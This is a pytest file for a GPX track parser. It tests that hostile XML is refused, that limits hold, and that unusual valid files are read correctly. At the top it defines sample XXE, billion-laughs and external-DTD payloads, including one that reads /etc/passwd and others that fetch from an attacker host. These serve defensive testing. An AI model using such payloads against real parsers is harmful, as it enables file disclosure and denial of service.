"""Reading untrusted GPX: hostile XML is refused, limits hold, odd but valid files are read."""

from __future__ import annotations

import math

import pytest

from src.gpx import parsing
from src.gpx.parsing import GPXError, check_gpx_head, read_gpx
from tests.gpx.helpers import GPX_NS, gpx, line, raw_points, track

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>&xxe;</name>
<trkseg><trkpt lat="40.0" lon="-3.0"><ele>600</ele></trkpt></trkseg></trk></gpx>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk><name>&lol9;</name>
<trkseg><trkpt lat="40.0" lon="-3.0"><ele>600</ele></trkpt></trkseg></trk></gpx>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE gpx SYSTEM "http://attacker.invalid/evil.dtd">
<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><trk>
<trkseg><trkpt lat="40.0" lon="-3.0"><ele>600</ele></trkpt></trkseg></trk></gpx>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<gpx version="1.1"><trk><trkseg><trkpt lat="1" lon="1"/></trkseg></trk></gpx>"""

HOSTILE = {
    "xxe": XXE,
    "billion_laughs": BILLION_LAUGHS,
    "external_dtd": EXTERNAL_DTD,
    "parameter_entity": PARAMETER_ENTITY,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_document_type_declarations_are_refused_before_anything_is_read(name: str) -> None:
    with pytest.raises(GPXError) as refused:
        read_gpx(HOSTILE[name])
    assert refused.value.kind == "format"
    assert refused.value.key == "gpx_dtd_forbidden"
    with pytest.raises(GPXError) as early:
        check_gpx_head(HOSTILE[name])
    assert early.value.key == "gpx_dtd_forbidden"


def test_an_undeclared_entity_is_an_error_not_an_expansion() -> None:
    data = b'<gpx><trk><name>&unknown;</name><trkseg><trkpt lat="1" lon="1"/></trkseg></trk></gpx>'
    with pytest.raises(GPXError) as refused:
        read_gpx(data)
    assert refused.value.key == "gpx_malformed"


@pytest.mark.parametrize(
    ("data", "key"),
    [
        (track("invalid_gpx.xml"), "gpx_malformed"),  # truncated, lat="invalid"
        (b"<html><body>hola</body></html>", "gpx_not_gpx"),
        (b"not xml at all", "gpx_malformed"),
        (b"", "gpx_malformed"),
        (b"<gpx><trk><trkseg></trkseg></trk></gpx>", "gpx_no_points"),
        (b'<gpx><wpt lat="1" lon="1"/><rte><rtept lat="1" lon="1"/></rte></gpx>', "gpx_no_points"),
        (
            b'<gpx><trk><trkseg><trkpt lat="91" lon="1"/></trkseg></trk></gpx>',
            "gpx_bad_coordinates",
        ),
        (
            b'<gpx><trk><trkseg><trkpt lat="nan" lon="1"/></trkseg></trk></gpx>',
            "gpx_bad_coordinates",
        ),
        (b'<gpx><trk><trkseg><trkpt lon="1"/></trkseg></trk></gpx>', "gpx_bad_coordinates"),
        (
            b'<gpx><trk><trkseg><trkpt lat="1" lon="1"><ele>hi</ele></trkpt></trkseg></trk></gpx>',
            "gpx_bad_elevation",
        ),
        (
            b'<gpx><trk><trkseg><trkpt lat="1" lon="1"><ele>inf</ele></trkpt></trkseg></trk></gpx>',
            "gpx_bad_elevation",
        ),
        (
            b'<gpx><trk><trkseg><trkpt lat="1" lon="1"><ele>NaN</ele></trkpt></trkseg></trk></gpx>',
            "gpx_bad_elevation",
        ),
    ],
)
def test_files_that_are_not_usable_gpx_are_refused(data: bytes, key: str) -> None:
    with pytest.raises(GPXError) as refused:
        read_gpx(data)
    assert refused.value.key == key
    assert refused.value.kind == "format"


@pytest.mark.parametrize("elevation", [-421.0, 8850.5, 12000.0])
def test_impossible_elevations_are_refused(elevation: float) -> None:
    data = gpx([(40.0, -3.0, 600.0), (40.001, -3.0, elevation)])
    with pytest.raises(GPXError) as refused:
        read_gpx(data)
    assert refused.value.kind == "elevation"
    assert refused.value.params["value"] == round(elevation, 1)


def test_the_extreme_but_possible_elevations_are_accepted() -> None:
    parsed = read_gpx(gpx([(31.5, 35.5, -420.0), (27.98, 86.92, 8850.0)]))
    assert parsed.ele.tolist() == [-420.0, 8850.0]


def test_nesting_deeper_than_the_limit_is_refused() -> None:
    depth = parsing.MAX_DEPTH + 5
    data = b"<gpx>" + b"<x>" * depth + b"</x>" * depth + b"</gpx>"
    with pytest.raises(GPXError) as refused:
        read_gpx(data)
    assert refused.value.key == "gpx_too_deep"


def test_more_points_than_the_limit_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parsing, "MAX_POINTS", 50)
    assert read_gpx(gpx(line(40.0, -3.0, north_m=10, count=50))).size == 50
    with pytest.raises(GPXError) as refused:
        read_gpx(gpx(line(40.0, -3.0, north_m=10, count=51)))
    assert refused.value.key == "gpx_too_many_points"


def test_files_over_ten_megabytes_are_refused_without_parsing() -> None:
    data = b" " * (parsing.MAX_FILE_BYTES + 1)
    for reader in (read_gpx, check_gpx_head):
        with pytest.raises(GPXError) as refused:
            reader(data)
        assert refused.value.key == "gpx_too_large"


def test_the_reference_tracks_are_read_point_by_point() -> None:
    for name, count in (
        ("via-verde.gpx", 11443),
        ("camino_del_cid.gpx", 20),
        ("short_route.gpx", 10),
        ("no_elevation.gpx", 5),
    ):
        data = track(name)
        parsed = read_gpx(data)
        expected = raw_points(data)
        assert parsed.size == count == len(expected)
        assert parsed.lat.tolist() == [p[0] for p in expected]
        assert parsed.lon.tolist() == [p[1] for p in expected]
        elevations = [None if math.isnan(e) else e for e in parsed.ele.tolist()]
        assert elevations == [p[2] for p in expected]
        assert parsed.segments == [(0, count)]
    assert not read_gpx(track("no_elevation.gpx")).has_elevation


def test_times_are_read_in_utc_whatever_their_form() -> None:
    body = (
        b'<gpx xmlns="http://www.topografix.com/GPX/1/1"><trk><trkseg>'
        b'<trkpt lat="1" lon="1"><time>2024-06-01T08:00:00Z</time></trkpt>'
        b'<trkpt lat="1" lon="1.001"><time>2024-06-01T10:00:30+02:00</time></trkpt>'
        b'<trkpt lat="1" lon="1.002"><time>2024-06-01T08:01:00.500Z</time></trkpt>'
        b'<trkpt lat="1" lon="1.003"><time>yesterday</time></trkpt>'
        b'<trkpt lat="1" lon="1.004"></trkpt>'
        b"</trkseg></trk></gpx>"
    )
    parsed = read_gpx(body)
    base = 1717228800.0  # 2024-06-01T08:00:00Z
    seconds = parsed.seconds.tolist()
    assert seconds[:3] == [base, base + 30, base + 60.5]
    assert math.isnan(seconds[3])
    assert math.isnan(seconds[4])
    assert parsed.time_text[1] == "2024-06-01T10:00:30+02:00"


def test_prefixed_namespaces_segments_extensions_and_waypoints() -> None:
    body = f"""<?xml version="1.0" encoding="UTF-8"?>
<g:gpx xmlns:g="{GPX_NS}" xmlns:x="urn:ext">
  <g:wpt lat="40.5" lon="-3.5"><g:ele>700</g:ele><g:name>Fuente &amp; sombra</g:name></g:wpt>
  <g:trk>
    <g:trkseg>
      <g:trkpt lat="40.0" lon="-3.0"><g:ele>600</g:ele>
        <g:extensions><x:ele>99999</x:ele><x:deep><x:deeper/></x:deep></g:extensions>
      </g:trkpt>
      <g:trkpt lat="40.001" lon="-3.0"><g:ele> 601.5 </g:ele></g:trkpt>
    </g:trkseg>
    <g:trkseg><g:trkpt lat="40.1" lon="-3.1"/></g:trkseg>
  </g:trk>
  <g:trk><g:trkseg><g:trkpt lat="41" lon="-4"><g:ele>10</g:ele></g:trkpt></g:trkseg></g:trk>
</g:gpx>""".encode()
    parsed = read_gpx(body, waypoints=True)
    assert parsed.size == 4
    assert parsed.segments == [(0, 2), (2, 3), (3, 4)]
    elevations = parsed.ele.tolist()
    assert elevations[:2] == [600.0, 601.5]  # the extension's <ele> is not the point's
    assert math.isnan(elevations[2])
    assert [w.name for w in parsed.waypoints] == ["Fuente & sombra"]
    assert read_gpx(body).waypoints == []


def test_a_large_file_is_checked_up_to_its_root_element_only() -> None:
    check_gpx_head(track("via-verde.gpx"))
    # a refusal that only the full read finds (bad coordinates far into the file)
    bad_tail = track("via-verde.gpx").replace(b'lat="37.400353"', b'lat="370.4"')
    check_gpx_head(bad_tail)
    with pytest.raises(GPXError):
        read_gpx(bad_tail)
    for data, key in (
        (b"<kml></kml>", "gpx_not_gpx"),
        (b"\x00\x01garbage", "gpx_malformed"),
        (b"", "gpx_malformed"),
    ):
        with pytest.raises(GPXError) as refused:
            check_gpx_head(data)
        assert refused.value.key == key
